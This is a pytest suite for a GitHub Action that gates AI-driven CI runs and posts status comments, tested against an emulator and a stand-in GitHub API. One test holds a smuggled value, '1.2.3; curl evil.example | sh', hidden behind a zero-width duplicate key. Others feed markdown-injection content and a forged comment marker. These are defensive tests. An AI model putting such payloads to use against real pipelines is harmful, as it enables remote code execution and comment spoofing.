"""The gates of a run, and the comment about it: real processes, the emulator, and a stand-in of
GitHub's API.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from mogplex_ci.inputs.declared import load_schema
from tests.emulator import Emulator
from tests.github import BOT, NOTHING, TOKEN, Fault, GitHub, Look, Work, check
from tests.github_log import read_log
from tests.oracles.github_markdown import rendered
from tests.program import Ended, GitHubStep
from tests.waits import LONG, wait_until

ARTIFACT = Path(__file__).parent / "scenarios" / "artifact.yaml"
FILES = {"output-dir": "."}
PASSED = check("test", "success")
OWN_JOB = check(
    "agent",
    None,
    html_url="https://github.com/acme/web/actions/runs/9876543210/job/1",
    check_suite={"id": 2},
)
"""The check of the job that waits for the checks."""


@pytest.fixture
def api() -> Iterator[GitHub]:
    with GitHub() as api:
        yield api


class Job:
    """A step against an emulator and the stand-in, in which its run does its ``work``."""

    work = Work(checks=Look([PASSED]))
    service = "2026-11"

    def __init__(
        self, folder: Path, api: GitHub, scenario: str | Path = "success", **env: str
    ) -> None:
        self.folder, self.api, self.scenario, self.env = folder, api, scenario, env
        self.step: GitHubStep

    def against(self, emulator: Emulator, **inputs: str) -> GitHubStep:
        given = {name.replace("_", "-"): value for name, value in inputs.items()}
        self.api.works_for(emulator, self.work)
        known = {
            "prompt": "Fix it",
            "base-url": emulator.url,
            "api-key": emulator.token,
            "github-token": TOKEN,
        }
        env = {"GITHUB_API_URL": self.api.url, **self.env}
        self.step = GitHubStep(self.folder, known | FILES | given, env)
        return self.step

    def run(self, **inputs: str) -> Ended:
        with Emulator(self.scenario, api=self.service, speed=50) as emulator:
            return self.against(emulator, **inputs).run()

    @property
    def result(self) -> dict[str, Any]:
        result: dict[str, Any] = json.loads((self.step.workspace / "result.json").read_text())
        Draft202012Validator(load_schema("result")).validate(result)
        return result


def scenario(folder: Path, artifact: str) -> Path:
    """Write a scenario whose run brings ``artifact``."""
    commit = '{after: 100ms, commit: "{{ commit_sha }}"}'
    path = folder / "artifact.yaml"
    text = f"artifacts:\n  report: {{text: {json.dumps(artifact)}}}\nsteps:\n  - status: success\n  - {commit}\n"
    path.write_text(text)
    return path


def given(job: Job, schema: object) -> None:
    """Write the schema of the artifact into the workspace."""
    (job.folder / "workspace").mkdir()
    (job.folder / "workspace" / "schema.json").write_text(json.dumps(schema))


def errors(ended: Ended) -> list[str]:
    return [found.text for found in read_log(ended.out).annotations if found.level == "error"]


def test_a_run_that_brings_everything_is_a_success_and_the_github_token_is_shown_nowhere(
    tmp_path: Path, api: GitHub
) -> None:
    job, paths = (
        Job(tmp_path, api),
        {"allowed_paths": "src/**\n*.md", "protected_paths": ".github/"},
    )
    job.work = Work(checks=Look([PASSED, OWN_JOB]))
    ended = job.run(require="change, pull-request", checks="test", comment_on="7", **paths)
    assert (ended.code, job.step.outputs["result"], errors(ended)) == (0, "success", []), ended.out
    names = ["change", "pull-request", "allowed-paths", "protected-paths", "checks", "branch"]
    assert [(gate["name"], gate["passed"]) for gate in job.result["gates"]] == [
        (name, True) for name in names
    ]
    written = "".join(path.read_text() for path in tmp_path.rglob("*") if path.is_file())
    said = ended.out.replace(f"::add-mask::{TOKEN}\n", "")
    assert said != ended.out
    assert TOKEN not in said + written + api.comments[0]["body"]


def test_a_gate_that_does_not_hold_rejects_the_run_and_is_told_everywhere(
    tmp_path: Path, api: GitHub
) -> None:
    job = Job(tmp_path, api)
    moved = {"docs/new.md": "on: push", ".github/ci.yml": None}
    job.work = Work({"README.md": "changed", **moved})
    ended = job.run(require="change", allowed_paths="docs/**\n*.md", protected_paths=".github/")
    outputs = job.step.outputs
    assert (ended.code, outputs["result"], outputs["status"]) == (1, "rejected", "success"), (
        ended.out
    )
    assert outputs["error-code"] == "PATH_NOT_ALLOWED"
    assert outputs["pull-request-url"].endswith("/pull/42")
    first, second = errors(ended)
    assert first.startswith(
        "allowed-paths: Merging the branch would change a path outside the allowed ones: .github/ci.yml. "
    )
    assert second.startswith(
        "protected-paths: Merging the branch would change a protected path: .github/ci.yml. "
    )
    assert "The changes are still on the branch" in second
    assert "✔ change: The run changed the repository" in ended.out
    assert "✘ Run rejected after" in ended.out
    for text in (job.step.summary, (job.step.workspace / "report.html").read_text()):
        assert "Run rejected" in text
        assert "github" in text
        assert "still on the branch" in text
    assert [gate["passed"] for gate in job.result["gates"]] == [True, False, False]


RED = Work(checks=Look([PASSED, check("e2e", "failure", html_url="https://ci.example/2")]))
LINKED = Work({".ci": "a link"}, opens_pull_request=False)
NEEDS = "Give github-token the permission contents: read"


@pytest.mark.parametrize(
    ("scenario", "work", "inputs", "code", "words"),
    [
        (
            "no-change",
            NOTHING,
            {"require": "pull-request"},
            "NO_CHANGE",
            "pull-request: The run changed no files. ",
        ),
        (
            "no-change",
            NOTHING,
            {"require": "change", "github_token": ""},
            "NO_CHANGE",
            "change: The run changed no files. ",
        ),
        (
            "success",
            Work(),
            {"artifact": "report"},
            "ARTIFACT_MISSING",
            "artifact: The run did not commit .mogplex/artifacts/report.json. ",
        ),
        (
            "success",
            RED,
            {"checks": "test"},
            "CHECKS_FAILED",
            "checks: A check failed: e2e https://ci.example/2.",
        ),
        # The delivery event says that nothing changed.
        (
            "no-change",
            LINKED,
            {"protected_paths": ".ci/"},
            "PATH_NOT_ALLOWED",
            "protected-paths: Merging the branch would change a pr",
        ),
        (
            "success",
            None,
            {"protected_paths": ".ci"},
            "NOT_JUDGED",
            NEEDS,
        ),
    ],
)
def test_what_does_not_hold_has_a_code(
    scenario: str,
    work: Work | None,
    inputs: dict[str, str],
    code: str,
    words: str,
    tmp_path: Path,
    api: GitHub,
) -> None:
    job = Job(tmp_path, api, scenario)
    if work is None:
        api.faults = [Fault(404, times=99, path="/compare/")]
    else:
        job.work = work
        if work is LINKED:  # only an older service leaves it to us which commit the run pushed
            job.service = "2026-08"
    ended = job.run(**inputs)
    assert (ended.code, job.step.outputs["result"], job.step.outputs["error-code"]) == (
        1,
        "rejected",
        code,
    ), ended.out
    (annotation,) = errors(ended)
    assert words in annotation


def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path, api: GitHub) -> None:
    job = Job(tmp_path, api, ARTIFACT, MOGPLEX_DOTENV="mogplex.env")
    given(job, {"type": "object", "required": ["version"]})
    ended = job.run(artifact="report", artifact_schema="schema.json")
    assert ended.code == 0, ended.out
    artifact = json.loads(job.step.outputs["artifact"])
    assert artifact["version"] == "1.4.0"
    assert job.step.outputs["artifact"] == json.dumps(
        artifact, separators=(",", ":"), ensure_ascii=False
    )
    assert json.loads((job.step.workspace / "artifact.json").read_text()) == artifact
    assert job.result["artifact_file"] == "artifact.json"


def test_an_invalid_artifact_is_not_handed_on(tmp_path: Path, api: GitHub) -> None:
    """Two keys would become one, and the second one win."""
    attack = '{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}'
    job = Job(tmp_path, api, scenario(tmp_path, attack))
    given(job, {"properties": {"version": {"pattern": "^[0-9.]+$"}}})
    ended = job.run(artifact="report", artifact_schema="schema.json")
    assert (ended.code, job.step.outputs["error-code"]) == (1, "ARTIFACT_INVALID"), ended.out
    assert job.step.outputs.get("artifact", "") == ""
    assert not (job.step.workspace / "artifact.json").exists()
    assert "evil.example" not in ended.out + "".join(
        path.read_text() for path in job.step.workspace.glob("*.[hjn]*")
    )


def test_one_comment_tells_of_the_run_from_its_start_to_its_end(
    tmp_path: Path, api: GitHub
) -> None:
    job = Job(tmp_path, api, ARTIFACT)
    ended = job.run(comment_on="7")
    assert ended.code == 0, ended.out
    (comment,) = api.comments
    changes = [asked.method for asked in api.asked if asked.method != "GET"]
    assert (comment["issue"], changes) == (7, ["POST", "PATCH"])
    body = comment["body"]
    assert re.match(r"<!-- run-action key=[0-9a-f]{32} run=[0-9a-f]{32} -->\n", body)
    assert "**Run succeeded**" in body
    assert "https://github.com/acme/web/pull/42" in body
    assert "https://github.com/acme/web/actions/runs/9876543210" in body
    page = rendered(body)
    shown = "".join(text for _, text in page.texts)
    assert (
        "@acme/owners please look: <img src=x> [here](https://evil.example)\n```\n# out\n````\nend"
        in shown
    )
    assert [
        inside for inside, text in page.texts if re.search(r"@\w", text) and "code" not in inside
    ] == []
    assert not any(
        element.startswith(("img", "h1")) or "evil.example" in element for element in page.elements
    )


def test_a_rerun_edits_the_comment_of_the_first_attempt(tmp_path: Path, api: GitHub) -> None:
    # Each job has a server of its own here, and so would have another derived key.
    given = {"comment_on": "7", "idempotency_key": "the-step"}
    Job(tmp_path / "one", api, "failed").run(**given)
    assert "**Run failed**" in api.comments[0]["body"]
    Job(tmp_path / "two", api, "success", GITHUB_RUN_ATTEMPT="2").run(**given)
    (comment,) = api.comments
    assert "**Run succeeded**" in comment["body"]
    Job(tmp_path / "other", api, "success").run(comment_on="7", idempotency_key="another-step")
    assert len(api.comments) == 2


def test_a_stranger_cannot_put_the_comment_there_beforehand(tmp_path: Path, api: GitHub) -> None:
    """Not with a marker made of a key that is known, and not with a copy of the marker."""
    key = "known-to-everybody"
    digest = hashlib.sha256(key.encode()).hexdigest()[:32]
    forged = {
        "id": 1,
        "issue": 7,
        "user": BOT,
        "body": f"<!-- run-action key={digest} run={'0' * 32} -->\n",
    }
    api.comments.append(forged)
    Job(tmp_path / "one", api).run(comment_on="7", idempotency_key=key)
    own = api.comments[1]["body"]
    api.comments[:] = [{"id": 2, "issue": 7, "user": {"type": "User"}, "body": own}]
    Job(tmp_path / "two", api).run(comment_on="7", idempotency_key=key)
    assert [comment["user"]["type"] for comment in api.comments] == ["User", "Bot"]
    assert api.comments[0]["body"] == own


def test_a_step_that_is_stopped_while_gates_judge_tells_what_is_known_of_the_run(
    tmp_path: Path, api: GitHub
) -> None:
    job = Job(tmp_path, api)
    job.work = Work(checks=Look([check("test", None)]))
    with Emulator("success", speed=50) as emulator:
        step = job.against(emulator, checks="test")
        with step.start() as process:
            wait_until(lambda: any("check-runs" in asked.path for asked in api.asked), process)
            process.terminate()
            process.communicate(timeout=LONG)
        (run,) = emulator.runs
    assert (process.returncode, run.status) == (143, "success")
    told = {name: step.outputs[name] for name in ("result", "run-id", "status", "pull-request-url")}
    pull_request = "https://github.com/acme/web/pull/42"
    assert told == {
        "result": "interrupted",
        "run-id": run.id,
        "status": "success",
        "pull-request-url": pull_request,
    }


def test_without_a_named_check_nothing_starts_and_the_line_to_add_is_said(
    tmp_path: Path, api: GitHub
) -> None:
    api.checks[api.branches["main"]] = Look([PASSED, check("::error::lint", "success")])
    job = Job(tmp_path, api)
    with Emulator("success") as emulator:
        ended = job.against(emulator, require="checks").run()
        assert emulator.runs == []
    assert (ended.code, job.step.outputs["error-code"]) == (2, "USAGE")
    (error,) = errors(ended)
    said = (
        "checks names no check, and the base branch requires none. Did you mean ::error::lint or "
        "test? Name the checks that must pass, as in checks: test."
    )
    assert said in error


def test_a_check_that_was_red_before_is_said_to_be_everywhere(tmp_path: Path, api: GitHub) -> None:
    base = api.branches["main"]
    api.checks[base] = Look([check("e2e", "failure")])
    job = Job(tmp_path, api)
    job.work = RED
    ended = job.run(checks="test")
    assert ended.code == 1
    said = f"e2e (also red on main at {base[:7]})"
    assert any(said in error for error in errors(ended))
    summary = job.step.summary
    (gate,) = job.result["gates"]
    assert gate["items"] == [f"{said} https://ci.example/2"]
    assert said in summary


def test_a_comment_that_was_written_without_an_answer_is_found_again(
    tmp_path: Path, api: GitHub
) -> None:
    api.fail(method="POST", status=502, is_done=True)
    assert Job(tmp_path, api).run(comment_on="7").code == 0
    assert len(api.comments) == 1
    assert "**Run succeeded**" in api.comments[0]["body"]


def test_without_a_run_there_is_no_comment(tmp_path: Path, api: GitHub) -> None:
    job = Job(tmp_path, api)
    assert job.run(comment_on="7", repo="acme/none").code == 2
    assert (job.step.outputs.get("run-id", ""), api.asked, api.comments) == ("", [], [])


def test_failing_to_comment_is_a_warning_only(tmp_path: Path, api: GitHub) -> None:
    api.fail(status=403, times=99)
    job = Job(tmp_path, api)
    ended = job.run(comment_on="7")
    assert (ended.code, job.step.outputs["result"]) == (0, "success")
    warned = [found.text for found in read_log(ended.out).annotations if found.level == "warning"]
    assert warned[0].startswith("Could not write the comment: ")
    assert api.comments == []


def test_the_job_that_waits_for_a_run_edits_the_comment_of_the_job_that_started_it(
    tmp_path: Path, api: GitHub
) -> None:
    env = {"GITHUB_API_URL": api.url}
    with Emulator("success", speed=20) as emulator:
        known = {
            "base-url": emulator.url,
            "api-key": emulator.token,
            "github-token": TOKEN,
            "comment-on": "7",
        }
        start = GitHubStep(tmp_path / "start", known | {"prompt": "Fix it", "wait": "false"}, env)
        assert start.run().code == 0
        assert "**Run started, not followed**" in api.comments[0]["body"]
        run_id = start.outputs["run-id"]
        wait = GitHubStep(
            tmp_path / "wait", known | {"run-id": run_id}, env | {"GITHUB_JOB": "wait"}
        )
        ended = wait.run()
        assert ended.code == 0, ended.out
        assert wait.outputs["run-id"] == run_id
        assert wait.outputs["repo"] == "acme/web"
        assert f"Following existing run {run_id}" in ended.out
        (comment,) = api.comments
        assert "**Run succeeded**" in comment["body"]
        again = GitHubStep(
            tmp_path / "again", known | {"prompt": "Fix it"}, env | {"GITHUB_RUN_ATTEMPT": "2"}
        )
        assert again.run().code == 0
        assert (len(api.comments), len(emulator.runs)) == (1, 1)
